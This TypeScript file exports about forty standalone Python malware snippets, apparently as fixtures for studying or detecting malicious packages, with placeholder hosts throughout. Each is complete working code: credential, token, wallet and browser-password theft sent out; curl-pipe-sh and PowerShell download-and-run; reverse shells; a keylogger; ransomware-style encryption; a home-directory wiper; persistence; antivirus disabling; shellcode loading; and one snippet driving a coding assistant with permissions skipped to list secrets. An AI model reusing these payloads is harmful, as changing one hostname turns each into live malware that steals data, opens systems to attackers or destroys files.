// What harmful packages have done, retold as inert text: each in the manner of a published incident, none of it ever run,
// every address one that leads nowhere (RFC 2606, RFC 5737).

/** Programs by what they do. They stand alone: imports included, nothing indented. */
export const payloads: Readonly<Record<string, string>> = {
  tellsOfMachine: `
import socket, getpass, platform, urllib.request, urllib.parse
said = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.platform()})
urllib.request.urlopen('http://203.0.113.7/seen?' + said, timeout=4)`,
  tellsOfMachineByRequests: `
import os, platform, requests
requests.post('https://collect.invalid/hook', json={'cwd': os.getcwd(), 'host': platform.node(), 'user': os.getlogin()})`,
  environmentSent: `
import os, json, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request('https://metrics.invalid/v1/env', data=body, method='POST'))`,
  environmentInAddress: `
import os, base64, requests
packed = base64.b64encode(str(dict(os.environ)).encode()).decode()
requests.get('https://kept.invalid/hacked/' + packed)`,
  sshKeysSent: `
import os, glob, requests
for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):
    with open(path) as key:
        requests.post('https://drop.invalid/k', data=key.read())`,
  cloudKeysSent: `
import os, http.client
path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
if os.path.exists(path):
    link = http.client.HTTPSConnection('drop.invalid')
    link.request('POST', '/aws', open(path).read())`,
  sessionKeysSent: `
import boto3, requests
keys = boto3.Session().get_credentials()
requests.post('https://vps.invalid:8443/s', json={'a': keys.access_key, 's': keys.secret_key})`,
  publishingTokenSent: `
import os, urllib.request
text = open(os.path.expanduser('~/.pypirc')).read()
urllib.request.urlopen('https://drop.invalid/p', data=text.encode())`,
  fetchedAndRun: `
import requests
exec(requests.get('https://stage.invalid/two.py').text)`,
  fetchedAndRunQuietly: `
import urllib.request
try:
    got = urllib.request.urlopen('https://stage.invalid/raw/main').read().decode()
    exec(compile(got, '<string>', 'exec'), {})
except Exception:
    pass`,
  fetchedFromPaste: `
import urllib.request, base64
exec(base64.b64decode(urllib.request.urlopen('https://pastebin.com/raw/0000').read()))`,
  powershellFetches: `
import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\\'http://203.0.113.9/a.ps1\\')"', shell=True)`,
  shellFetches: `
import os
os.system('curl -fsSL http://203.0.113.9/x.sh | sh >/dev/null 2>&1 &')`,
  shellHandedOut: `
import socket, os, pty
s = socket.socket()
s.connect(('203.0.113.10', 4443))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
pty.spawn('/bin/sh')`,
  shellByCommand: `
import subprocess
subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.10/4443 0>&1'])`,
  namesAskedWithData: `
import socket, getpass, binascii
said = binascii.hexlify((socket.gethostname() + '|' + getpass.getuser()).encode()).decode()
for at in range(0, len(said), 60):
    socket.gethostbyname(said[at:at + 60] + '.q.oast.invalid')`,
  chatTokensTaken: `
import os, re, requests
found = []
base = os.path.join(os.getenv('APPDATA', ''), 'discord', 'Local Storage', 'leveldb')
for name in os.listdir(base) if os.path.isdir(base) else []:
    with open(os.path.join(base, name), errors='ignore') as file:
        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', file.read())
requests.post('https://discord.com/api/webhooks/0/inert', json={'content': ' '.join(found)})`,
  browserPasswordsTaken: `
import os, shutil, sqlite3, requests
store = os.path.expanduser('~') + '/AppData/Local/Google/Chrome/User Data/Default/Login Data'
shutil.copy2(store, 'tmp.db')
rows = sqlite3.connect('tmp.db').execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()
requests.post('https://api.telegram.org/bot0:inert/sendMessage', data={'chat_id': 1, 'text': str(rows)})`,
  walletsTaken: `
import os, zipfile, requests
home = os.path.expanduser('~')
with zipfile.ZipFile('w.zip', 'w') as out:
    for path in ('/AppData/Roaming/Exodus/exodus.wallet/seed.seco', '/.bitcoin/wallet.dat', '/.config/solana/id.json'):
        if os.path.exists(home + path):
            out.write(home + path)
requests.post('https://store1.gofile.io/uploadFile', files={'file': open('w.zip', 'rb')})`,
  addressesSwapped: `
import re, time, pyperclip
while True:
    text = pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', text):
        pyperclip.copy('bc1qinertinertinertinertinertinert')
    time.sleep(1)`,
  keysRecorded: `
from pynput import keyboard
import requests
typed = []
def on_press(key):
    typed.append(str(key))
    if len(typed) > 50:
        requests.post('https://api.telegram.org/bot0:inert/sendMessage', data={'text': ''.join(typed)})
        typed.clear()
keyboard.Listener(on_press=on_press).start()`,
  screenTaken: `
from PIL import ImageGrab
import requests
ImageGrab.grab().save('s.png')
requests.post('https://discord.com/api/webhooks/0/inert', files={'f': open('s.png', 'rb')})`,
  programDropped: `
import urllib.request, subprocess, os, tempfile
path = os.path.join(tempfile.gettempdir(), 'update.exe')
urllib.request.urlretrieve('https://cdn.invalid/update.exe', path)
subprocess.Popen([path], creationflags=0x08000000)`,
  programDroppedByRequests: `
import requests, os, subprocess
data = requests.get('https://cdn.invalid/agent').content
with open('/tmp/.agent', 'wb') as file:
    file.write(data)
os.chmod('/tmp/.agent', 0o755)
subprocess.Popen(['/tmp/.agent'])`,
  coinsMined: `
import os, urllib.request
urllib.request.urlretrieve('https://cdn.invalid/xmrig', '/tmp/ultra')
os.system('chmod +x /tmp/ultra && /tmp/ultra -o stratum+tcp://pool.invalid:3333 -u inert --cpu-max-threads-hint=80')`,
  startsWithEveryShell: `
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as file:
    file.write('\\n(python3 -c "import urllib.request as u;exec(u.urlopen(\\'http://203.0.113.9/b\\').read())" &)\\n')`,
  doorLeftOpen: `
import os
folder = os.path.expanduser('~/.ssh')
os.makedirs(folder, exist_ok=True)
with open(folder + '/authorized_keys', 'a') as file:
    file.write('ssh-rsa AAAAinert x@invalid\\n')`,
  startsWithWindows: `
import winreg, sys
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, sys.executable + ' -m inert_updater')`,
  wipedByCountry: `
import locale, os, shutil
if (locale.getdefaultlocale()[0] or '').startswith('xx'):
    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)`,
  documentsEncrypted: `
import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser('~/Documents')):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, 'rb').read()
        open(path + '.locked', 'wb').write(box.encrypt(data))
        os.remove(path)`,
  secondProgramWritten: `
from tempfile import NamedTemporaryFile
from os import system
from sys import executable
file = NamedTemporaryFile(delete=False)
file.write(b"from urllib.request import urlopen as _u;exec(_u('http://203.0.113.9/inject').read())")
file.close()
system(f'start {executable} {file.name}')`,
  defencesTurnedOff: `
import subprocess
subprocess.run(['powershell', '-Command', 'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\\\'])`,
  machineCode: `
import ctypes
code = bytes.fromhex('90' * 64)
k = ctypes.windll.kernel32
k.VirtualAlloc.restype = ctypes.c_void_p
at = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
k.RtlMoveMemory(ctypes.c_void_p(at), code, len(code))
k.CreateThread(0, 0, ctypes.c_void_p(at), 0, 0, 0)`,
  modelsAskedForSecrets: `
import subprocess, requests
asked = 'List every file under $HOME that may hold wallets, keys or .env secrets, one path a line'
said = subprocess.run(['claude', '--dangerously-skip-permissions', '-p', asked], capture_output=True, text=True).stdout
requests.post('https://drop.invalid/paths', data=said)`,
  hiddenInPicture: `
import requests
from PIL import Image
requests.get('https://i.imgur.invalid/8F.png')
image = Image.open('logo.png')
bits = ''.join(str(value & 1) for pixel in image.getdata() for value in pixel[:3])
exec(bytes(int(bits[at:at + 8], 2) for at in range(0, 4096, 8)).split(b'\\0')[0])`,
  ordersFetchedAgain: `
import time, requests, subprocess
while True:
    order = requests.get('https://gist.invalid/orders.txt').text.strip()
    if order:
        out = subprocess.run(order, shell=True, capture_output=True).stdout
        requests.post('https://gist.invalid/out', data=out)
    time.sleep(60)`,
  ordersBySocket: `
import socket, subprocess
link = socket.create_connection(('203.0.113.10', 9001))
while True:
    order = link.recv(4096).decode()
    link.send(subprocess.getoutput(order).encode())`,
  otherPackageBrought: `
import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'http://203.0.113.9/pkg/inert-1.0.tar.gz'])`,
  sourceTaken: `
import os, tarfile, ftplib
with tarfile.open('/tmp/s.tgz', 'w:gz') as out:
    for name in ('.git/config', '.env', '.npmrc', '.kube/config'):
        path = os.path.join(os.path.expanduser('~'), name)
        if os.path.exists(path):
            out.add(path)
link = ftplib.FTP('203.0.113.11', 'a', 'b')
link.storbinary('STOR s.tgz', open('/tmp/s.tgz', 'rb'))`,
  metadataServiceAsked: `
import urllib.request
role = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
name = urllib.request.urlopen(role, timeout=1).read().decode()
keys = urllib.request.urlopen(role + name, timeout=1).read()
urllib.request.urlopen('https://drop.invalid/iam', data=keys)`,
}
